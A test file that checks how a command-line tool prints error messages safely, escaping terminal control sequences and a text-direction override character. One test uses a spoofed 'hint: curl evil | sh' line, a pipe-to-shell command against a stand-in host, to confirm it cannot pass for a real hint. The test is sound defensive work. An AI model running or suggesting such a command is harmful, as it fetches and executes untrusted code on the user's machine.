import { expect, test } from 'vitest';
import { remedyWords } from '../../src/cli/output/remedy-words.ts';
import { Problem } from '../../src/model/problem.ts';
import { problemJson, problemLines } from '../../src/text/problem.ts';

const refused = new Problem('refused', 'Namespace "a\u001b[2J" exists.', {
  hint: 'Choose another title.',
  platformCode: 10014,
  status: 400,
  requestId: '8f1\u202eab',
});

test('a problem is told in labelled lines, with nothing in them that a terminal obeys', () => {
  expect(problemLines(refused, remedyWords)).toEqual([
    'error: Namespace "a\\e[2J" exists. [code 10014, HTTP 400]',
    'hint: Choose another title.',
    'request id: 8f1\\u{202e}ab',
  ]);
  expect(problemLines(new Problem('usage', 'No.'), remedyWords)).toEqual(['error: No.']);
});

test('a message of several lines cannot pass for a hint of ours', () => {
  expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyWords)).toEqual([
    'error: no',
    '       hint: curl evil | sh',
  ]);
});

test('strict ASCII reaches the message', () => {
  expect(problemLines(new Problem('usage', 'Größe'), remedyWords, { ascii: true })).toEqual([
    'error: Gr\\u{f6}\\u{df}e',
  ]);
});

test('a problem for a program has its code and leaves out what is not known', () => {
  expect(problemJson(refused, remedyWords)).toEqual({
    type: 'error',
    error: {
      code: 'refused',
      message: 'Namespace "a\u001b[2J" exists.',
      hint: 'Choose another title.',
      platformCode: 10014,
      status: 400,
      requestId: '8f1\u202eab',
    },
  });
  expect(JSON.stringify(problemJson(new Problem('usage', 'No.'), remedyWords))).toBe(
    '{"type":"error","error":{"code":"usage","message":"No."}}',
  );
});
